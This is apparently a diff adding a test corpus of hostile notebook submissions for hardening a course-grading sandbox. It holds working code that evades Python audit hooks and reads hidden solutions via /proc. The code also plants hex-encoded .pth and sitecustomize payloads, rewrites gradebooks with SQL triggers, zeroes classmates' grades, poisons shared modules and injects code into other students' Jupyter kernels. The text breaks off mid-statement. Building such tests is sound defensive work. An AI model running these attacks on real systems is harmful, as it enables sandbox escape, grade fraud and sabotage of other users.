@@ -1,0 +1,1248 @@
+"""Hostile submissions against the grading sandbox (issue 10), organised by class of attack.
+
+Each :class:`Attack` builds the notebook(s) one hostile student hands in, from an assignment's
+*release* and *source* notebooks (like ``grading_support.hostile_notebooks``), and says what
+it must score: exactly what its honest code earns (0 for blank answers). The attacks
+discover everything a student who has read the public repository could discover: the
+environment (``COURSE_ROOT`` ...), ``/proc/*/{cmdline,environ,cwd,root}``, ``sys.prefix``, the
+editable-install finder in ``site-packages``, a walk of ``/``. They never receive a path
+from the test.
+
+Classes (``Attack.klass``) and the layer of the sandbox that must stop them (``layer``):
+
+* ``read_answer``: load the reference / solutions through file APIs the old audit hook did
+  not see (directory descriptors, ``/proc/<pid>/cwd``), through a child interpreter started
+  without an audit event (``sys.audit`` rebound around ``subprocess``, ``multiprocessing``'s
+  spawn, ``os.posix_spawn``, ``os.fork`` + ``os.execv``, ``ctypes`` ``system``), or through a
+  ``.pth``/``sitecustomize`` planted by an earlier submission that stashes the reference in
+  ``builtins`` before the kernel launcher strips the path.
+* ``write_grade``: the gradebook (main and shard copies) through ``nbgrader.api.Gradebook``
+  and raw ``sqlite3`` (updates and persistent triggers); TCP to 127.0.0.1/localhost (the
+  PostgreSQL port, every listening port, the Jupyter ports of sibling kernels whose
+  connection files it can read: it then runs code in them).
+* ``harm_others``: zero classmates through the gradebook, poison the student edition of
+  ``helpers``, plant ``.pth``/``sitecustomize``/``usercustomize`` in every ``site-packages``,
+  overwrite classmates' ``submitted/`` notebooks, kill processes, fill ``/tmp`` and ``$HOME``
+  and plant an IPython startup file there.
+* ``resources``: fork/spawn/thread bombs, huge files, open files, memory, cells sleeping or
+  spinning just under the cell timeout (per-notebook budget), floods of stdout, of outputs
+  carrying the hidden-test payload key (in its own cells, in solution cells, and from the
+  student function while a test cell runs), nested payloads.
+* ``forge_record``: a correct hidden-test record (built by this module from the trusted
+  cases, as if copied) emitted from a solution cell or an extra cell, several records in
+  one test cell, a record that buries grade_hidden's own.
+
+Safety while the sandbox is missing (these attacks really work against the pre-sandbox
+pipeline, commit e46f12b, see ``TODAY``): every write is confined to the attacker's own
+course (a root whose ``submitted/`` lists the attacker), code planted in shared places
+(``site-packages``, ``$HOME``) only acts when ``COURSE_ROOT`` is that course, tracked files of
+a repository are never modified (a new ``sbxmark_*`` file is created instead), fills and
+bombs are bounded, and ``os.kill(-1, 9)`` is only sent from a private pid namespace. Every
+file an attack creates or line it appends carries :data:`MARK` so the test can find (and
+remove) it.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+import grading_support as gs
+from nbformat.v4 import new_code_cell
+
+#: Every file an attack creates (or line it appends) contains this followed by the student id.
+MARK = "sbxmark_"
+#: Scratch files of attacks (answers passed from a child): removed by the test, not judged.
+SCRATCH = "sbxtmp_"
+
+#: Which attacks give a wrong grade (or harm a classmate) against the pre-sandbox pipeline
+#: (commit e46f12b, audit hook only), from ``autograde.run(course, jobs=2)`` on this corpus;
+#: see the report of the helper that wrote this file. Filled in from runs, not assumed.
+TODAY: dict[str, str] = {}
+
+
+@dataclass
+class Attack:
+    """One hostile student. ``build(student_id)`` -> ``{assignment: (notebook, expected score)}``."""
+
+    name: str
+    klass: str
+    layer: str
+    doc: str
+    build: Callable[[str], dict]
+    reason: str | None = None  # key of the test's REASONS (substring expected in the report entry)
+    kinds: frozenset = field(default_factory=frozenset)  # "flood", "stall": extra checks
+
+    def entries(self, student: str):
+        """``(assignment, notebook, score, reason, klass, layer)`` for every notebook handed in."""
+        return [(a, nb, score, self.reason, self.klass, self.layer)
+                for a, (nb, score) in self.build(student).items()]
+
+
+# ============================================================================ attacker toolkit
+# Prepended (as one cell after the setup cell) to every attacker notebook that needs it.
+TOOLKIT = r'''
+# ---- attacker toolkit (sandbox corpus): files through directory descriptors, discovery through
+# ---- the environment and /proc, children without audit events. Confined to the attacker's course.
+import builtins, json, os, sys, time
+ME = __ME__
+MARK = "sbxmark_" + ME
+SCRATCH = "sbxtmp_" + ME
+_O_DIR = os.O_RDONLY | getattr(os, "O_DIRECTORY", 0)
+_LOG = []
+
+def _note(*a):
+    _LOG.append(" ".join(map(str, a))[:300])
+
+def _parts(path):
+    return [p for p in os.path.abspath(path).split("/") if p]
+
+def _dirfd(path):
+    """A descriptor of a directory, opened one relative component at a time (no absolute path seen)."""
+    try:
+        fd = os.open("/", _O_DIR)
+    except OSError:
+        return None
+    try:
+        for part in _parts(path):
+            nfd = os.open(part, _O_DIR, dir_fd=fd)
+            os.close(fd)
+            fd = nfd
+    except OSError:
+        os.close(fd)
+        return None
+    return fd
+
+def _ls(path):
+    fd = _dirfd(path)
+    if fd is None:
+        return []
+    try:
+        return sorted(os.listdir(fd))
+    except OSError:
+        return []
+    finally:
+        os.close(fd)
+
+def _read(path, limit=64 << 20):
+    parent = _dirfd(os.path.dirname(os.path.abspath(path)))
+    if parent is None:
+        return None
+    try:
+        fd = os.open(os.path.basename(path), os.O_RDONLY, dir_fd=parent)
+    except OSError:
+        return None
+    finally:
+        os.close(parent)
+    chunks, size = [], 0
+    try:
+        while size < limit:
+            b = os.read(fd, 1 << 20)
+            if not b:
+                break
+            chunks.append(b)
+            size += len(b)
+    except OSError:
+        pass
+    finally:
+        os.close(fd)
+    return b"".join(chunks)
+
+def _mkdirs(path):
+    try:
+        fd = os.open("/", _O_DIR)
+    except OSError:
+        return False
+    try:
+        for part in _parts(path):
+            try:
+                os.mkdir(part, 0o755, dir_fd=fd)
+            except FileExistsError:
+                pass
+            nfd = os.open(part, _O_DIR, dir_fd=fd)
+            os.close(fd)
+            fd = nfd
+        return True
+    except OSError:
+        return False
+    finally:
+        os.close(fd)
+
+def _write(path, data, append=False):
+    parent = _dirfd(os.path.dirname(os.path.abspath(path)))
+    if parent is None:
+        return False
+    flags = os.O_WRONLY | os.O_CREAT | (os.O_APPEND if append else os.O_TRUNC)
+    try:
+        fd = os.open(os.path.basename(path), flags, 0o644, dir_fd=parent)
+        try:
+            os.write(fd, data if isinstance(data, bytes) else data.encode())
+        finally:
+            os.close(fd)
+        _note("wrote", path)
+        return True
+    except OSError as exc:
+        _note("write failed", path, exc)
+        return False
+    finally:
+        os.close(parent)
+
+_SKIP_DIRS = {"/proc", "/sys", "/dev", "/run", "/boot", "/snap", "/var/lib", "/var/cache", "/var/log",
+              "/usr/share", "/usr/include", "/usr/src", "/usr/lib/x86_64-linux-gnu", "/usr/lib/locale"}
+_SKIP_NAMES = {".git", "node_modules", "__pycache__", "site-packages", "dist-packages", ".pyenv", ".cache",
+               ".ipynb_checkpoints", "include", "share"}
+
+def _walk(tops=("/tmp", "/home", "/root", "/work", "/srv", "/opt", "/mnt", "/var", "/"), match=None,
+          seconds=5.0, max_depth=10):
+    """Breadth-first walk through directory descriptors (os.scandir(fd)); yields (path, is_dir) matches."""
+    deadline = time.monotonic() + seconds
+    seen, queue = set(), [(t, 0) for t in tops]
+    while queue and time.monotonic() < deadline:
+        path, depth = queue.pop(0)
+        if path in seen:
+            continue
+        seen.add(path)
+        fd = _dirfd(path)
+        if fd is None:
+            continue
+        try:
+            entries = [(e.name, e.is_dir(follow_symlinks=False)) for e in os.scandir(fd)]
+        except OSError:
+            entries = []
+        finally:
+            os.close(fd)
+        for name, is_dir in entries:
+            full = os.path.join(path, name)
+            if match is not None and match(full, name, is_dir):
+                yield full, is_dir
+            if is_dir and depth < max_depth and full not in _SKIP_DIRS and name not in _SKIP_NAMES:
+                queue.append((full, depth + 1))
+
+def _procs():
+    """Every other process: pid, argv, environment, cwd (read through descriptors)."""
+    out = []
+    for pid in _ls("/proc"):
+        if not pid.isdigit() or int(pid) == os.getpid():
+            continue
+        raw_env = _read(f"/proc/{pid}/environ") or b""
+        env = {}
+        for kv in raw_env.split(b"\0"):
+            if b"=" in kv:
+                k, v = kv.split(b"=", 1)
+                env[k.decode(errors="replace")] = v.decode(errors="replace")
+        try:
+            cwd = os.readlink(f"/proc/{pid}/cwd")
+        except OSError:
+            cwd = None
+        argv = [a.decode(errors="replace") for a in (_read(f"/proc/{pid}/cmdline") or b"").split(b"\0") if a]
+        out.append({"pid": int(pid), "argv": argv, "env": env, "cwd": cwd})
+    return out
+
+def _course_roots():
+    """Course roots, from the environment, the grader processes and the working folder; only mine."""
+    found = set()
+    for var in ("COURSE_ROOT",):
+        if os.environ.get(var):
+            found.add(os.environ[var])
+    if os.environ.get("COURSE_STUDENT_HELPERS"):
+        found.add(os.path.dirname(os.environ["COURSE_STUDENT_HELPERS"].rstrip("/")))
+    for p in _procs():
+        if p["env"].get("COURSE_ROOT"):
+            found.add(p["env"]["COURSE_ROOT"])
+        if "grading.course.worker" in p["argv"]:
+            i = p["argv"].index("grading.course.worker")
+            if len(p["argv"]) > i + 1:
+                found.add(p["argv"][i + 1])
+    if "/autograded/" in os.getcwd():
+        found.add(os.getcwd().split("/autograded/")[0])
+    return sorted(r for r in found if ME in _ls(os.path.join(r, "submitted")))
+
+def _classmates():
+    out = set()
+    for r in _course_roots():
+        out |= {s for s in _ls(os.path.join(r, "submitted")) if s != ME}
+    return sorted(out)
+
+def _python_executables():
+    """The course's interpreters: mine, the grader workers', every python in a bin/ next to them."""
+    exes = [sys.executable, getattr(sys, "_base_executable", sys.executable)]
+    for p in _procs():
+        try:
+            exe = os.readlink(f"/proc/{p['pid']}/exe")
+        except OSError:
+            continue
+        if "python" in os.path.basename(exe):
+            exes.append(exe)
+        if p["argv"] and "python" in os.path.basename(p["argv"][0]) and p["argv"][0].startswith("/"):
+            exes.append(p["argv"][0])
+    for d in {os.path.dirname(e) for e in exes if e}:
+        exes += [os.path.join(d, n) for n in _ls(d) if n.startswith("python")]
+    seen, out = set(), []
+    for e in exes:
+        if e and e not in seen:
+            seen.add(e)
+            out.append(e)
+    return out
+
+def _site_dirs():
+    """Every site-packages it can find: its own path, the interpreters' prefixes, a walk."""
+    import site
+    dirs = {p for p in sys.path if p.rstrip("/").endswith("site-packages")}
+    try:
+        dirs |= set(site.getsitepackages()) | {site.getusersitepackages()}
+    except Exception:
+        pass
+    for exe in _python_executables():
+        prefix = os.path.dirname(os.path.dirname(exe))
+        for lib in _ls(os.path.join(prefix, "lib")):
+            if lib.startswith("python"):
+                dirs.add(os.path.join(prefix, "lib", lib, "site-packages"))
+    for path, _ in _walk(tops=("/usr/lib", "/usr/local/lib", "/opt", "/root", "/home", "/work"),
+                         match=lambda f, n, d: d and n in ("site-packages", "dist-packages"), seconds=2.0):
+        dirs.add(path)
+    return sorted(dirs)
+
+def _editable_mapping():
+    """The editable install's map {package: source folder}, read from its finder in site-packages."""
+    import ast
+    out = {}
+    for d in _site_dirs():
+        for n in _ls(d):
+            if n.startswith("__editable__") and n.endswith("_finder.py"):
+                text = (_read(os.path.join(d, n)) or b"").decode(errors="replace")
+                for node in ast.parse(text).body:
+                    if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "MAPPING":
+                        try:
+                            out.update(ast.literal_eval(node.value))
+                        except Exception:
+                            pass
+    return out
+
+def _gradebooks():
+    """Gradebooks of my course: <root>/*.db, shard copies, sqlite URLs and .db files in grader argv."""
+    import sqlite3
+    roots, found = _course_roots(), set()
+    for r in roots:
+        for n in _ls(r):
+            if n.endswith(".db"):
+                found.add(os.path.join(r, n))
+            if n.startswith("shards") or n.startswith("tmp"):
+                found |= {os.path.join(r, n, m) for m in _ls(os.path.join(r, n)) if m.endswith(".db")}
+    for p in _procs():
+        for a in p["argv"]:
+            if a.startswith("sqlite:///"):
+                found.add(a[len("sqlite:///"):])
+            elif a.endswith(".db"):
+                found.add(a)
+    mates = set(_classmates()) | {ME}
+    mine = []
+    for db in sorted(found):
+        try:
+            con = sqlite3.connect(db, timeout=10)
+            students = {r[0] for r in con.execute("select id from student")}
+            con.close()
+        except Exception as exc:
+            _note("cannot open", db, exc)
+            continue
+        if students & mates or any(db.startswith(r + "/") for r in roots):
+            mine.append(db)
+    return mine
+
+def _quiet_run(argv, input=b"", env=None, timeout=30):
+    """subprocess.run with sys.audit rebound: Popen raises its audit event from Python code, and
+    _posixsubprocess.fork_exec (C) raises none."""
+    import subprocess
+    saved = sys.audit
+    sys.audit = lambda *a, **k: None
+    try:
+        return subprocess.run(argv, input=input, capture_output=True, env=env, timeout=timeout)
+    finally:
+        sys.audit = saved
+
+# Code run by a child interpreter (no audit hook there; the course's editable install finds the
+# instructor's helpers): prints {path: text} of the reference modules and of solution notebooks.
+CHILD_CODE = r"""
+import glob, json, os, sys
+out = {}
+sys.path = [p for p in sys.path if "student_helpers" not in p]
+for k in [m for m in sys.modules if m == "helpers" or m.startswith("helpers.")]:
+    del sys.modules[k]
+try:
+    import helpers._reference as ref
+    for d in ref.__path__:
+        for f in glob.glob(os.path.join(d, "*.py")):
+            out[f] = open(f).read()
+except Exception as exc:
+    out["error"] = repr(exc)
+for var in ("COURSE_SOURCE",):
+    for f in glob.glob(os.path.join(os.environ.get(var, "/nonexistent"), "*", "*.ipynb")):
+        out[f] = open(f).read()
+sys.stdout.write(json.dumps(out))
+"""
+
+# ---- answers: reference modules served from memory, solution cells of found source notebooks
+_ANSWERS = {}
+_REF_SOURCES = {}
+
+class _RefFinder:
+    """Serves helpers._reference.* from texts found elsewhere (no file access needed)."""
+    @classmethod
+    def find_spec(cls, name, path=None, target=None):
+        import importlib.util
+        if name == "helpers._reference" or name in _REF_SOURCES:
+            return importlib.util.spec_from_loader(name, cls, is_package=name == "helpers._reference")
+        return None
+    @staticmethod
+    def create_module(spec):
+        return None
+    @staticmethod
+    def exec_module(module):
+        if module.__name__ == "helpers._reference":
+            module.__path__ = []
+        else:
+            exec(compile(_REF_SOURCES[module.__name__], module.__name__, "exec"), module.__dict__)
+
+def _take(path, text):
+    """Keep a found text if it holds answers: a reference module or a notebook with solutions."""
+    if isinstance(text, bytes):
+        text = text.decode(errors="replace")
+    if path.endswith(".py") and "/_reference/" in path and not path.endswith("__init__.py"):
+        _REF_SOURCES["helpers._reference." + os.path.basename(path)[:-3]] = text
+    elif path.endswith(".ipynb") and "BEGIN SOLUTION" in text:
+        try:
+            cells = json.loads(text)["cells"]
+        except Exception:
+            return
+        for c in cells:
+            src = "".join(c.get("source", ""))
+            if c.get("cell_type") == "code" and "BEGIN SOLUTION" in src:
+                try:
+                    exec(src, _ANSWERS)
+                except Exception:
+                    pass
+
+def _answer(name):
+    """The reference (or a source notebook's solution) for ``name``, from whatever was found."""
+    import importlib
+    stash = getattr(builtins, "_sbx_stash", {})
+    if name in stash:
+        return stash[name]
+    if name in _ANSWERS and callable(_ANSWERS[name]):
+        return _ANSWERS[name]
+    if _REF_SOURCES and _RefFinder not in sys.meta_path:
+        sys.meta_path.insert(0, _RefFinder)
+    for mod in sorted(_REF_SOURCES):
+        try:
+            m = importlib.import_module(mod)
+        except Exception as exc:
+            _note("reference module failed", mod, exc)
+            continue
+        if callable(getattr(m, name, None)):
+            return getattr(m, name)
+    raise RuntimeError(f"no answer found for {name}: " + "; ".join(_LOG[-5:]))
+'''
+
+
+def toolkit(me: str) -> str:
+    return TOOLKIT.replace("__ME__", repr(me))
+
+
+# ============================================================================ notebook helpers
+def _honest(release, source):
+    return gs.with_solutions(release, source)
+
+
+def _blank(release):
+    return copy.deepcopy(release)
+
+
+def _answer_stubs(release, source):
+    """Every solution function delegates to ``_answer(name)`` (what the attack found)."""
+    return gs.with_solutions(release, source, lambda g, c: "\n".join(
+        f"def {n}(*_a, **_k):\n    return _answer({n!r})(*_a, **_k)\n" for n, _ in gs.functions(c)))
+
+
+def _insert_after_setup(nb, *codes: str):
+    at = gs._after_setup(nb)
+    for i, code in enumerate(codes):
+        nb.cells.insert(at + i, new_code_cell(code))
+    return nb
+
+
+def _first_test_index(nb) -> int:
+    return next(i for i, c in enumerate(nb.cells) if gs._is_test(c))
+
+
+def _insert_after_first_test(nb, *codes: str):
+    at = _first_test_index(nb) + 1
+    for i, code in enumerate(codes):
+        nb.cells.insert(at + i, new_code_cell(code))
+    return nb
+
+
+def _totals(release):
+    pts = gs.points_by_exercise(release)
+    return sum(pts.values()), pts
+
+
+def _last_solution_ids(release, source):
+    pts = gs.points_by_exercise(release)
+    last = max(pts)
+    return [g for g in gs.solutions(source) if gs.exercise_of(g) == last]
+
+
+def correct_payloads(release, source) -> list[dict]:
+    """Correct hidden-test records for every ``grade_hidden`` call of the source's test cells.
+
+    Built here from the trusted source and the registered checks, as if copied from a classmate:
+    the content is right, only its origin (not the test cell's own run) is not.
+    """
+    from helpers.checks import core
+
+    namespace: dict = {}
+    for code in gs.solutions(source).values():
+        exec(code, namespace)
+    out = []
+    for cell in source.cells:
+        if gs._is_test(cell):
+            fns = tuple(namespace[f] for f in _called_functions(cell.source) if f in namespace)
+            for name, cases in core.hidden_calls_in_source(cell.source):
+                out.append(core.record_answers(name, *fns, cases=cases))
+    return out
+
+
+def _called_functions(source: str) -> list[str]:
+    import ast
+
+    for node in ast.walk(ast.parse(source)):
+        if isinstance(node, ast.Call) and getattr(node.func, "id", None) == "grade_hidden":
+            return [a.id for a in node.args[1:] if isinstance(a, ast.Name)]
+    return []
+
+
+def register_toy_check() -> None:
+    """Register ``toy.square`` in this process (to build correct toy payloads)."""
+    from helpers.checks import core
+
+    if "toy.square" not in core._REGISTRY:
+        exec(gs.TOY_CHECK, {})
+
+
+# ============================================================================ read the answer
+READ_WALK = '''
+# walk the file system through directory descriptors, keep reference modules and solution notebooks
+for _p, _d in _walk(match=lambda f, n, d: (d and n == "_reference") or (not d and n.endswith(".ipynb")),
+                    seconds=7.0):
+    if _p.endswith("_reference"):
+        for _n in _ls(_p):
+            if _n.endswith(".py"):
+                _take(os.path.join(_p, _n), _read(os.path.join(_p, _n)) or b"")
+    else:
+        _take(_p, _read(_p, limit=8 << 20) or b"")
+print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names")
+'''
+
+READ_PROC = '''
+# learn the paths from /proc (grader argv, environments, cwd), then read through /proc/<pid>/cwd and
+# /proc/<pid>/root (magic links opened as directory descriptors)
+_hint = set()
+for _p in _procs():
+    _env, _argv = _p["env"], _p["argv"]
+    for _k in ("COURSE_SOURCE", "COURSE_ROOT", "COURSE_STUDENT_HELPERS", "VIRTUAL_ENV", "PWD"):
+        if _env.get(_k):
+            _hint.add(("/proc/%d/root" % _p["pid"]) + _env[_k])
+    if "grading.course.worker" in _argv:
+        _i = _argv.index("grading.course.worker")
+        _hint |= {("/proc/%d/root" % _p["pid"]) + a for a in _argv[_i + 1:_i + 3]}
+    _hint.add("/proc/%d/cwd" % _p["pid"])
+for _h in sorted(_hint):
+    for _cand in (_h, os.path.join(_h, "helpers", "_reference"), os.path.dirname(_h)):
+        for _n in _ls(_cand):
+            _f = os.path.join(_cand, _n)
+            if _n.endswith(".py") and _cand.endswith("_reference"):
+                _take(_f, _read(_f) or b"")
+            for _m in _ls(_f):
+                if _m.endswith(".ipynb"):
+                    _take(os.path.join(_f, _m), _read(os.path.join(_f, _m), limit=8 << 20) or b"")
+print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names")
+'''
+
+READ_CHILD_SUBPROCESS = '''
+# a child interpreter of the course environment (its editable install imports the instructor's helpers),
+# started through subprocess with sys.audit rebound (the fork itself raises no audit event)
+for _exe in _python_executables():
+    try:
+        _out = _quiet_run([_exe, "-c", CHILD_CODE], timeout=20)
+        for _f, _t in json.loads(_out.stdout or b"{}").items():
+            _take(_f, _t)
+    except Exception as exc:
+        _note("child failed", _exe, exc)
+    if _REF_SOURCES or _ANSWERS:
+        break
+print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
+'''
+
+READ_CHILD_MULTIPROCESSING = '''
+# multiprocessing's "spawn" start method execs a fresh interpreter through _posixsubprocess (no audit
+# event); its target is the builtin exec, so nothing of this kernel needs to be imported there
+import multiprocessing
+_dest = os.path.join(os.getcwd(), SCRATCH + "_answers.json")
+_code = CHILD_CODE.replace("sys.stdout.write(json.dumps(out))", "open(%r, 'w').write(json.dumps(out))" % _dest)
+try:
+    _ctx = multiprocessing.get_context("spawn")
+    _ctx.set_executable(_python_executables()[0])
+    _proc = _ctx.Process(target=exec, args=(_code, {"__name__": "__child__"}))
+    _proc.start()
+    _proc.join(30)
+    for _f, _t in json.loads(_read(_dest) or b"{}").items():
+        _take(_f, _t)
+except Exception as exc:
+    _note("spawn failed", exc)
+print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
+'''
+
+READ_CHILD_POSIX_SPAWN = '''
+# os.posix_spawn of the course's python, output to a scratch file
+_dest = os.path.join(os.getcwd(), SCRATCH + "_answers.json")
+_code = CHILD_CODE.replace("sys.stdout.write(json.dumps(out))", "open(%r, 'w').write(json.dumps(out))" % _dest)
+for _exe in _python_executables():
+    try:
+        _pid = os.posix_spawn(_exe, [_exe, "-c", _code], dict(os.environ))
+        os.waitpid(_pid, 0)
+        for _f, _t in json.loads(_read(_dest) or b"{}").items():
+            _take(_f, _t)
+    except Exception as exc:
+        _note("posix_spawn failed", exc)
+    if _REF_SOURCES or _ANSWERS:
+        break
+print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
+'''
+
+READ_CHILD_FORK_EXEC = '''
+# os.fork, then os.execv of the course's python in the child
+_dest = os.path.join(os.getcwd(), SCRATCH + "_answers.json")
+_code = CHILD_CODE.replace("sys.stdout.write(json.dumps(out))", "open(%r, 'w').write(json.dumps(out))" % _dest)
+try:
+    _exe = _python_executables()[0]
+    _pid = os.fork()
+    if _pid == 0:
+        try:
+            os.execv(_exe, [_exe, "-c", _code])
+        finally:
+            os._exit(1)
+    os.waitpid(_pid, 0)
+    for _f, _t in json.loads(_read(_dest) or b"{}").items():
+        _take(_f, _t)
+except Exception as exc:
+    _note("fork/execv failed", exc)
+print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
+'''
+
+READ_CHILD_CTYPES = '''
+# libc's system() through ctypes: a shell running the course's python
+import ctypes, shlex
+_dest = os.path.join(os.getcwd(), SCRATCH + "_answers.json")
+_code = CHILD_CODE.replace("sys.stdout.write(json.dumps(out))", "open(%r, 'w').write(json.dumps(out))" % _dest)
+try:
+    _libc = ctypes.CDLL(None)
+    _libc.system(("%s -c %s" % (shlex.quote(_python_executables()[0]), shlex.quote(_code))).encode())
+    for _f, _t in json.loads(_read(_dest) or b"{}").items():
+        _take(_f, _t)
+except Exception as exc:
+    _note("ctypes failed", exc)
+print("found", len(_REF_SOURCES), "reference modules,", len(_ANSWERS), "solution names", _LOG[-3:])
+'''
+
+# planted by one submission, used by the next kernel: the line runs at interpreter start-up, before
+# the kernel launcher removes the editable finder and installs its guard
+STASH = r'''
+import builtins, importlib, pkgutil
+try:
+    import helpers._reference as _r
+    _s = builtins.__dict__.setdefault("_sbx_stash", {})
+    for _m in pkgutil.iter_modules(_r.__path__):
+        _mod = importlib.import_module("helpers._reference." + _m.name)
+        for _k, _v in vars(_mod).items():
+            if callable(_v) and not _k.startswith("_"):
+                _s.setdefault(_k, _v)
+except Exception:
+    pass
+'''
+
+PLANT_PTH = '''
+# plant a .pth in every site-packages: later interpreters of this course run STASH at start-up
+_stash = %r
+for _root in _course_roots():
+    _line = ("import os; exec(bytes.fromhex(%%r).decode()) if os.environ.get('COURSE_ROOT') == %%r else None  # %%s\\n" %%
+             (_stash.encode().hex(), _root, MARK))
+    for _d in _site_dirs():
+        _write(os.path.join(_d, "zz_" + MARK + ".pth"), _line)
+print(_LOG[-5:])
+'''
+
+PLANT_SITECUSTOMIZE = '''
+# plant sitecustomize.py / usercustomize.py where there is none: imported by every later interpreter
+_stash = %r
+for _root in _course_roots():
+    _code = ("# %%s\\nimport os\\nif os.environ.get('COURSE_ROOT') == %%r:\\n    exec(bytes.fromhex(%%r).decode())\\n" %%
+             (MARK, _root, _stash.encode().hex()))
+    for _d in _site_dirs():
+        for _n in ("sitecustomize.py", "usercustomize.py"):
+            if _n not in _ls(_d):
+                _write(os.path.join(_d, _n), _code)
+print(_LOG[-5:])
+'''
+
+
+# ============================================================================ write a grade
+GRADE_API = '''
+# nbgrader's own Gradebook on every gradebook of my course: my submission, full manual marks + extra credit
+from nbgrader.api import Gradebook
+for _db in _gradebooks():
+    try:
+        with Gradebook("sqlite:///" + _db) as _gb:
+            for _a in _gb.assignments:
+                _sub = _gb.update_or_create_submission(_a.name, ME)
+                for _nb in _sub.notebooks:
+                    for _g in _nb.grades:
+                        _g.manual_score = _g.max_score
+                        _g.extra_credit = 10.0
+            _gb.db.commit()
+        _note("graded myself in", _db)
+    except Exception as exc:
+        _note("gradebook failed", _db, exc)
+print(_LOG[-5:])
+'''
+
+GRADE_SQL = '''
+# raw sqlite3: full marks on my rows now, and triggers that give them again whenever a grader writes them
+import sqlite3
+_mine = ("NEW.notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
+         "ON sn.assignment_id = sa.id WHERE sa.student_id = '%s')" % ME)
+_set = ("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) "
+        "WHERE id = NEW.id AND " + _mine + ";")
+for _db in _gradebooks():
+    try:
+        _con = sqlite3.connect(_db, timeout=20)
+        _con.execute("CREATE TRIGGER IF NOT EXISTS %s_ins AFTER INSERT ON grade BEGIN %s END" % (MARK, _set))
+        _con.execute("CREATE TRIGGER IF NOT EXISTS %s_upd AFTER UPDATE OF auto_score ON grade BEGIN %s END" %
+                     (MARK, _set))
+        _con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells gc WHERE gc.id = grade.cell_id) "
+                     "WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
+                     "ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (ME,))
+        _con.commit()
+        _con.close()
+        _note("sql in", _db)
+    except Exception as exc:
+        _note("sqlite failed", _db, exc)
+print(_LOG[-5:])
+'''
+
+GRADE_TCP = '''
+# the network: PostgreSQL on 127.0.0.1/localhost, every listening TCP port, and the Jupyter kernels of
+# classmates (connection files named in /proc argv): run code in them that drops their hidden-test records
+import socket
+_ports = {5432, 5433}
+for _tab in ("/proc/net/tcp", "/proc/net/tcp6"):
+    for _ln in (_read(_tab) or b"").decode().splitlines()[1:]:
+        _f = _ln.split()
+        if len(_f) > 3 and _f[3] == "0A":
+            _ports.add(int(_f[1].rsplit(":", 1)[1], 16))
+for _host in ("127.0.0.1", "localhost"):
+    for _port in sorted(_ports):
+        try:
+            with socket.create_connection((_host, _port), timeout=0.5) as _s:
+                _s.sendall(b"\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f")  # PostgreSQL SSLRequest
+                _note("connected", _host, _port)
+        except OSError:
+            pass
+_INJECT = ("import IPython.display as _d, helpers.checks.core as _c\\n"
+           "_d.display = lambda *a, **k: None\\n_c._display = lambda *a, **k: None\\n")
+from jupyter_client import BlockingKernelClient
+_roots = _course_roots()
+for _p in _procs():
+    if "-f" not in _p["argv"] or not _p["cwd"] or ME in _p["cwd"] or not any(_p["cwd"].startswith(r) for r in _roots):
+        continue
+    _cf = _p["argv"][_p["argv"].index("-f") + 1]
+    try:
+        _info = json.loads(_read(_cf) or _read("/proc/%d/root%s" % (_p["pid"], _cf)) or b"{}")
+        _kc = BlockingKernelClient()
+        _kc.load_connection_info(_info)
+        _kc.start_channels()
+        _kc.execute(_INJECT)
+        time.sleep(0.5)
+        _kc.stop_channels()
+        _note("injected into kernel", _p["pid"], _p["cwd"])
+    except Exception as exc:
+        _note("kernel takeover failed", _p["pid"], exc)
+print(_LOG[-8:])
+'''
+
+
+# ============================================================================ harm others
+HARM_ZERO_OTHERS = '''
+# classmates' grades to 0 in every gradebook of my course: their submissions pre-created, manual_score 0
+from nbgrader.api import Gradebook
+_mates = _classmates()
+for _db in _gradebooks():
+    try:
+        with Gradebook("sqlite:///" + _db) as _gb:
+            for _a in _gb.assignments:
+                for _v in _mates:
+                    _sub = _gb.update_or_create_submission(_a.name, _v)
+                    for _nb in _sub.notebooks:
+                        for _g in _nb.grades:
+                            _g.manual_score = 0.0
+            _gb.db.commit()
+        _note("zeroed classmates in", _db)
+    except Exception as exc:
+        _note("gradebook failed", _db, exc)
+print(len(_mates), _LOG[-5:])
+'''
+
+HARM_HELPERS = '''
+# the student edition of helpers (every later kernel imports it): grade_hidden becomes a no-op for others;
+# in a repository's helpers (tracked files) only a new marker module is created
+_poison = ("\\n# %s\\nimport os as _sbx_os\\nif %r not in _sbx_os.getcwd():\\n"
+           "    def grade_hidden(*a, **k):\\n        return None\\n    def _display(*a, **k):\\n        return None\\n" % (MARK, ME))
+_targets = set()
+for _root in _course_roots():
+    for _p, _d in _walk(tops=(_root,), match=lambda f, n, d: d and n == "helpers", seconds=3.0):
+        _targets.add(_p)
+for _k in ("COURSE_STUDENT_HELPERS",):
+    if os.environ.get(_k):
+        _targets.add(os.path.join(os.environ[_k], "helpers"))
+for _h in sorted(_targets):
+    for _f in ("checks/core.py", "checks/__init__.py", "__init__.py"):
+        if os.path.basename(_f) in _ls(os.path.dirname(os.path.join(_h, _f))):
+            _write(os.path.join(_h, _f), _poison, append=True)
+for _h in _editable_mapping().values():
+    _write(os.path.join(_h, MARK + ".py"), "# " + MARK + "\\n")
+print(sorted(_targets), _LOG[-6:])
+'''
+
+HARM_SITE = '''
+# .pth, sitecustomize.py and usercustomize.py in every site-packages: later kernels of my classmates
+# (in this course) exit at start-up
+_roots = _course_roots()
+for _root in _roots:
+    _code = ("import os, sys; (os.environ.get('COURSE_ROOT') == %r and 'kernel_launcher' in ' '.join(sys.argv) "
